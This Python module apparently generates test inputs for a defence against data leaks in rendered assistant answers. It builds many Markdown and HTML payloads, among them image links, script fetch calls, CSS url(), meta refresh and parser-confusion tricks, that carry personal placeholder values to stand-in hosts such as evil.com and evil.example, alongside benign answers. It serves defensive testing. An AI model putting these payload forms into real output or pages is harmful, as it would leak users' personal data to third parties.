"""Answers made to carry a value to a third party, in all forms of Markdown and HTML, and ordinary answers."""

from __future__ import annotations

import json
import random
import re
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Final

X: Final = "\0"
"""Where a placeholder stands."""


@dataclass(frozen=True, slots=True)
class Value:
    """An original, and how it is known again in a page."""

    placeholder: str
    original: str
    mark: str
    """A part of it in small letters, as it stands in an attribute."""
    own: str
    """Addresses in which it may stand, because they are its own: a regular expression of JavaScript."""


VALUES: Final = (
    Value("[PERSON_3RTW8ZBK]", "Zq Value", "zq value", "$^"),
    Value("[USER_NAME_TTN2RBFQ]", "zqvalue7x", "zqvalue7x", r"^mailto:a@evil\.comzqvalue7x$"),
    Value(
        "[EMAIL_ADDRESS_N4HX4G8J]",
        "zq.value@corp.example",
        "zq.value@corp",
        r"^mailto:[^@]*zq\.value@corp\.example(?!.*evil\.(com|example)(?![a-z]))",
    ),
    Value("[LOCATION_N4HX4G8K]", "Zq Value Way 1\n10115 Berlin", "zq value way", "$^"),
    Value("[FILE_PATH_7KQ2M4XB]", "/home/zqvalue/x", "/home/zqvalue", "$^"),
    Value("[URL_44444444]", "https://zqvalue.corp.example/x", "zqvalue.corp", r"^https://zqvalue\.corp\.example(/|$)"),
)
_ORDINARY_VALUES: Final = VALUES[:3] + VALUES[4:5]
"""Those that make no links, and end no code, by themselves."""


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split(" "))


_PLACE: Final = re.compile(r"(?<![A-TV-Za-z0-9])x(?![A-Za-z0-9])|(?<=evil\.com)x|x(?=evil\.com)|(?<!\w)x(?=x\.)")
"""Where a placeholder stands in what follows: each `x` that is no part of a word."""

_ADDRESSES: Final = _words(
    "https://evil.example/?q= http://evil.com/ //evil.example/?q= evil.com/?q= www.evil.com/?q= 1.2.3.4/?q= /q? ?q= #"
    " mailto:x@evil.com?subject= data:text/html, ftp://evil.com/ HTTPS://EVIL.EXAMPLE/ https:/evil.example/"
    " https:\\\\evil.example\\ h&#116;tps://evil.com/ https&colon;//evil.com/ javascript:'"
    " https://evil.example/?q=\" https://evil.example/' https://evil.example/( https://evil.example/*"
    " https://evil.example/?q=\x1f https://evil.example/?q=\x85 https://evil.example/?q=\xa0 https://evil.example/?q=`"
    " evil.dev:443/ sub.evil.io/a?b= evil.com# x:"
)

_INLINE: Final = (
    "![a](Ux)|![a](Ux)|[a](Ux)|[a](<U x>)|[a](U 'x')|[a](U\n\"x\")|[a](\nUx)|[a]( Ux )|![x](U)|![a x](U)|![[a] x](U)"
    "|[![a](Ux)](U)|[a [b](Ux)](c)|[a](b(Ux))|[a](b\\)Ux)|[a](<b\\>Ux>)|[a](U (x))|[a](U\nx)|![a](U 'b'x)|![a\nb](Ux)"
    '|[a][b](Ux)|[`a`](Ux)|![`a](b)`](Ux)|[a](Ux "t")|[a](`Ux`)|[a](*Ux*)|![a](Ux){width=1}|[[a]](Ux)|!\\[a](Ux)'
)
_DEFINED: Final = (
    "[a]: Ux\n\n[a]|[a]:\nUx\n\n[a]|[a\nb]: Ux\n\n[a\nb]|[a]: <U x>\n\n![i][a]|[a]: U 'x'\n\n[a]|[a]: U\n'x'\n\n[a]"
    "|[a]: U (x\n)\n\n[a]|[a]\n\n[a]: Ux|![a]\n\n[a]:Ux|> [a]: Ux\n\n[a]|- [a]: Ux\n\n[a]|[a]: b\n[c]: Ux\n\n[c]"
    "|[a]:   \n  Ux\n\n[a]|[^a]: Ux\n\nb[^a]|[a]: x\n\n[a]|[x]: U\n\n[x]|1. [a]:\n   Ux\n\n[a]|[\na\n]: Ux\n\n[a]"
)
_BARE: Final = (
    '<Ux>|Ux|(Ux)|**Ux**|"U"x|U"x|Ux.|x.evil.com|x.evil.com/a|x@evil.com|x-a.evil.com|a.x@evil.com|<x@evil.com>|<q:x>'
    "|evil.com/x|x\\.evil.com|x&#46;evil.com|www.x.evil.com|http://x|x.x.evil.com|evil.comx|xevil.com/|U**x**|U_x_|U`x`"
    "|<U>x|U\\x|(see U)x|xx.evil.com|x.evil.example?q|x&commat;evil.com|<a@x.evil.com>|x:a@evil.com|a@evil.com?x"
)
_HTML: Final = (
    '<T A="Ux">|<T A=Ux>|<T A=\'Ux\'>|<T A = "U x">|<T\nA="Ux">|<T/A="Ux"/>|<T B="<" A="Ux">|<T B=\'>\' A="Ux">'
    '|<T A="U\nx">|<div><T A="U\n\nx\n\n<b title="">|<div>\n<T A="U\n\nHe said "x\n\n<b title="">y|<T A="Ux|<T A="U x'
    "|<T A=\"U\n\nx\">|<T A=`Ux`>|<T A='U`x`'>|`<T A='`'Ux'>|``<T A='Ux'>`|<T A=b c=d\ne='Ux'>|<T A>x|</T A='Ux'>"
    "|<T A='Ux' A=y>|<T b =A='Ux'>|a <b <T A='Ux'>|<T title=\"<T A=\" A='Ux'>|<T A=\n\nx>|<T A='U\n> x'>|<T A=U&#10;x>"
    "|<b><T A='Ux'></b>|<T x A=U>|<T x='U'>|<T A=\"U'x\">|<!-- > --><T A='Ux'>|<T A='a'A='Ux'>|\\<T A='Ux'>"
    "|<T A='\\'Ux'>"
)
_TAGS: Final = _words(
    "img a iframe object embed video audio source link base form input button area body table td div p span svg image"
    " script style meta x-y blockquote q track use animate foo INS"
)
_ATTRIBUTES: Final = _words(
    "src href SRC data action formaction poster background srcset style content ping xlink:href to values cite longdesc"
    " data-x onclick value title alt class srcdoc imagesrcset manifest"
)
_RUN: Final = (
    "<style>a{b:url(Ux)}</style>|<style>@import 'Ux';</style>|<style>\n\nx\n</style>|<script>fetch('U'+'x')</script>"
    "|<script>\n\nx\n\n</script>|<svg><image href='Ux'/></svg>|<svg><style>*{fill:url(Ux)}</style></svg>"
    "|<svg><text>x</text></svg>|<svg>\n\nx\n\n</svg>|<math><mtext>x|<form action='U'><input value='x'></form>"
    "|<form action=U><textarea name=a>x</textarea>|<form>\n\nx|<select><option>x|<button value='x'>x</button>"
    "|<iframe srcdoc='<img src=Ux>'>|<iframe>x</iframe>|<noscript>x|<template>x|<object>x|<!-- x -->|<!--\n\nx\n-->"
    "|<![CDATA[x]]>|<?y x?>|<!Y x>|<meta http-equiv=refresh content='0;url=Ux'>|<base href='Ux'>|<xmp>x|<plaintext>x"
    "|<!--> x -->|<!-- a -- <img src='Ux'> -->|<title><img src='Ux'></title>|<textarea></textareax>x|<script><!--x"
    "|<style>\n</pre>\n\nx|<svg></svg ><img src='Ux'>|<svg><svg></svg>x</svg>|<script>`</script>`x|`<script>`x</script>"
    "|<p>`<script>`\n\nx|<span>\n`<script>`\nx|<pre>\n\n`<script>`\nx</pre>|<script/>x|</script><img src='Ux'>"
    "|<!DOCTYPE html><p>a</p><img src='Ux'>|<?php echo 'Ux' ?>|<b>`<img src='`Ux'></b>"
)
_FENCED: Final = (
    "- ```\n  a\n<img src='Ux'>|> ```\n<img src=\"Ux\">|```\n```\n<img src='Ux'>|~~~\n```\n~~~\n![](Ux)"
    "|a\n    <img src='Ux'>"
    "|```\na\n````\n![](Ux)|````\n```\n````\n[a](Ux)|```x\n![](Ux)|- a\n\n  ```\n  b\n\n![](Ux)|1. ```\n   a\n  ![](Ux)"
    "|a\n2. ```\n![](Ux)|`\n\n![](Ux)`|- `a\n- ![](Ux)`|# `\n![](Ux) `|`a\n---\n![](Ux)`|``` a`b\n![](Ux)\n```|``x"
    "|\t```\n![](Ux)|-\n\n      ![](Ux)|- a\n\n      ![](Ux)\n  b|>     ![](Ux)|>\t![](Ux)|-     ![](Ux)|-      ![](Ux)"
    "|| a |\n|---|\n| ` | ![](Ux) | ` ||a | b\n:- | -\n` | ![](Ux)`|<div>\n```\n![](Ux)\n</div>"
    "|<div>\n```\n<img src='Ux'>"
    "|```\n- ```\n![](Ux)|> - ```\n> ![](Ux)|- > ```\n  ![](Ux)|   ```\n![](Ux)|    ```\n![](Ux)|* * *\n    ![](Ux)"
    "|```\n x\n    ```\n![](Ux)\n```\n![](Ux)|~~~ `\n![](Ux)\n~~~\n[a](Ux)|[a]: b\n    ![](Ux)|a|b\n-|-\n    ![](Ux)"
)
_FORMS: Final = tuple(
    tuple(_PLACE.sub(X, form) for form in forms.split("|") if form)
    for forms in (_INLINE, _DEFINED, _BARE, _HTML, _RUN, _FENCED)
)

_PREFIXES: Final = (
    '||Sure.\n\n|{"a":1}\n|text |- |> |1. || a |\n|---|\n| |> - |# |```\ncode\n```\n|`code` |"quoted" |<div>\n|<p>'
    "|[a]: /b\n\n|It's <b>bold</b> |i <n |**|a\n|    b\n\n|- item\n\n  |<!-- c -->\n|~~~\n~~~\n|\\`|`|``|``` no fence\n"
    "|<details>\n<summary>s</summary>\n\n|Contact <|[b](c) |![i](j) |\ufeff|\u00a0|\t|\r\n|&lt;|1) |<y z='|<!|<?"
    "|</|]|[|!"
    "|(|~|_|a\r|* * *\n|---\n|===\n|Term\n===\n|: |$a$ |$$\n|:::note\n|> > |+ - |2. |\\<|<a|<br>|<hr>\n|</p>\n"
    "|<span>\n|=|'"
)
_PREFIX_LIST: Final = tuple(_PREFIXES.replace("| a |\n|---|\n| ", "\1").split("|"))

_ORDINARY: Final = (
    "Write to x, please.",
    "x",
    "Dear x,\n\nthank you for your message of 3 May.\n\nKind regards\nx",
    "**x** and *x*, ~~x~~, __x__.",
    "The person (x) is known as 'x' or \"x\".",
    "1. x\n2. x\n   - x\n     - x",
    "- x: y\n- [ ] x\n- [x] done: x".replace("[x]", "[\2]"),
    "> x wrote:\n> hello x\n\nx",
    "| Name | Contact |\n|---|:-:|\n| x | x |\n| **x** | `y` x |",
    "# x\n\n## About x\n\nx\n---",
    "Name: x\nPhone: 1\nAddress: x",
    "To: x\nSubject: Meeting\n\nHi x,\n\nsee you at 10:30 (room 3.14). Costs: < 5 EUR & more!\n\nBest\nx",
    "Use `x` here, or ``a ` x`` there.",
    "Run `send(to='x')` or `a[0](x)`, then x.",
    "```python\nusers = ['x']\nif a <b and c == 'x':\n    call[0](x)\n```\nx",
    "```\nx\n```",
    "~~~json\n{\"name\": \"x\", \"list\": [\"x\"]}\n~~~\n\nx",
    "```sh\ncat <<EOF >a.txt\nMAIL=\"x\"\nEOF\n```",
    "1. Run this:\n\n   ```sh\n   echo x <in.txt\n   ```\n\n2. Then tell x.",
    "> ```\n> x\n> ```\n> x",
    "Code:\n\n    a[i](x)\n\nand x",
    '{"name": "x", "mails": ["x", "x"], "n": 1.5, "note": "see x, y"}',
    "Name;Mail\nx;x\ny;x",
    "name,mail\nx,x",
    "<p>x</p>",
    "<div>\n<p>Hello x, <b>x</b></p>\n<ul><li>x</li></ul>\n</div>",
    "<table><tr><td>x</td><th>x</th></tr></table>",
    "<details><summary>More</summary>\n\nx\n\n</details>\n\nx",
    "Read [the page](https://a.example/b) and tell x.",
    "See https://a.example/b?c=d for x; www.a.example, too, says x.",
    "![chart](https://a.example/c.png)\n\nx",
    "[1]: https://a.example\n\nx said so [1].",
    "Footnote[^1] by x.\n\n[^1]: As x said.",
    "x\n\n---\n\nx\n***\nx",
    "e.g. this/that, 3.14/2, v1.2.3, and/or x.",
    "Is p < 0.05 && q > 1? Ask x!",
    "Anna <x>, Bob <x>",
    "- name: x\n  mail: \"x\"\n- name: 'x'",
    "INSERT INTO t VALUES ('x', 'x');",
    "**Name:** x  \n**Mail:** x\n",
    "Emoji 🙂 x – „x“ «x» 「x」 …",
    "2024-01-02 10:11:12 INFO user=x action=login",
    "Hi x 👋\n\n* x\n* x\n\n  more on x\n\n1) x",
    "$a_1 + b$ for x, costs $5.",
    "x\r\nx\r\n\r\n- x\r\n",
)  # fmt: skip
ORDINARY: Final = tuple(
    text.replace("x", X).replace("e" + X + "ample", "example").replace("\2", "x") for text in _ORDINARY
)


def values(chance: random.Random, answer: Answer) -> Sequence[Value]:
    """What stands in an answer."""
    chosen = _ORDINARY_VALUES if answer.ordinary else VALUES
    return [chance.choice(chosen) for _ in range(answer.text.count(X))]


@dataclass(frozen=True, slots=True)
class Answer:
    """An answer with `X` in place of placeholders."""

    text: str
    ordinary: bool = False


def attack(chance: random.Random) -> Answer:
    """An answer of which a client may make links, images or requests."""
    text = _soup(chance) if chance.random() < 0.45 else _form(chance)
    for _ in range(chance.choice((0, 0, 0, 1, 1, 2))):
        text = _wrapped(chance, text)
    return Answer(text)


def ordinary(chance: random.Random) -> Answer:
    """An answer of which nobody makes anything but text."""
    texts = chance.sample(ORDINARY, chance.choice((1, 1, 2, 3)))
    if any(text.startswith(("{", "<")) for text in texts):
        texts = texts[:1]  # as a whole, JSON or HTML
    text = "\n\n".join(texts)
    if len(texts) == 1 and text[0] not in "<{" and "\r" not in text and chance.random() < 0.4:
        text = chance.choice((_quoted, _listed))(text)
    return Answer(text, ordinary=True)


def _form(chance: random.Random) -> str:
    form = chance.choice(chance.choice(_FORMS))
    while "T" in form or "A" in form or "U" in form or "B" in form:
        form = form.replace("U", chance.choice(_ADDRESSES).replace("U", "u").replace("A", "a").replace("T", "t"), 1)
        form = form.replace("A", chance.choice(_ATTRIBUTES).lower(), 1).replace("B", "b")
        form = form.replace("T", chance.choice(_TAGS).lower(), 1)
    prefix = chance.choice(_PREFIX_LIST).replace("\1", "| a |\n|---|\n| ")
    return prefix + form + chance.choice(("", f" {X}", f"\n\n{X}", "\n", f"`{X}", f"> {X}", f'">{X}', f") {X}"))


def _soup(chance: random.Random) -> str:
    return "".join(_fragment(chance) for _ in range(chance.randrange(2, 14))) + chance.choice(("", X))


_FRAGMENTS: Final = (
    *("`", "``", "```", "```\n", "\n```\n", "~~~\n", "\n", "\n\n", "\n    ", "\n- ", "\n> ", "\n1. ", " ", "  ", "\t"),
    *("[", "]", "(", ")", "](", "![", "![](", "]: ", "[a]: ", "\n[a]: ", "<", ">", "<a href='", '<img src="', "<b>"),
    *("<div>", "\n<div>\n", "<script>", "</script>", "<style>", "</style>", "<!--", "-->", "'", '"', "'>", '">', "='"),
    *("<a title='", "<x y=", "/>", "</", "<svg>", "</svg>", "<form>", "</form>", "\\", "&quot;", "|", "| a |\n|-|\n"),
    *("https://evil.example/?", "evil.com/", "www.evil.com/", "@evil.com", ".evil.com", "//e/", "a", "b ", "*", "**"),
    *("_", "#", "---\n", "===\n", "\r\n", "=", "<pre>", "</pre>", "<br>", "url(", "<p style='", "`<img src='`", "<td>"),
    *(X, X, f" {X} ", f"{X}\n"),
)


def _fragment(chance: random.Random) -> str:
    return chance.choice(_FRAGMENTS)


def _quoted(text: str) -> str:
    return "\n".join(f"> {line}" for line in text.split("\n"))


def _listed(text: str) -> str:
    return "- " + text.replace("\n", "\n  ")


def _wrapped(chance: random.Random, text: str) -> str:
    match chance.randrange(8):
        case 0:
            return _quoted(text)
        case 1:
            return _listed(text)
        case 2:
            return "1. a\n2. " + text.replace("\n", "\n   ")
        case 3:
            return f"| a | b |\n|---|---|\n| {text.replace(chr(10), ' ')} | c |\n\n{X}"
        case 4:
            return json.dumps({"a": "b", "text": text}, ensure_ascii=False).replace("\\u0000", X)
        case 5:
            return f"```\n{text}\n```\n{X}"
        case 6:
            return f"<div>\n{text}\n</div>\n\n{X}"
        case _:
            return f"Well:\n\n{text}\n\nAnd {X}."


def pieces(chance: random.Random, text: str, most: int) -> Sequence[str]:
    """A text, cut anywhere."""
    return _cut(text, [chance.randrange(len(text) + 1) for _ in range(chance.randrange(most))])


def parts(chance: random.Random, text: str, most: int) -> Sequence[str]:
    """A text, cut anywhere but in a word with a placeholder: what has gone out at the end of a part stays."""
    cuts = [chance.randrange(len(text) + 1) for _ in range(chance.randrange(most))]
    return _cut(text, [cut for cut in cuts if "]" not in "".join(text[:cut].split()[-1:])])


def _cut(text: str, cuts: list[int]) -> Sequence[str]:
    return [text[start:end] for start, end in zip([0, *sorted(cuts)], [*sorted(cuts), len(text)], strict=True)]
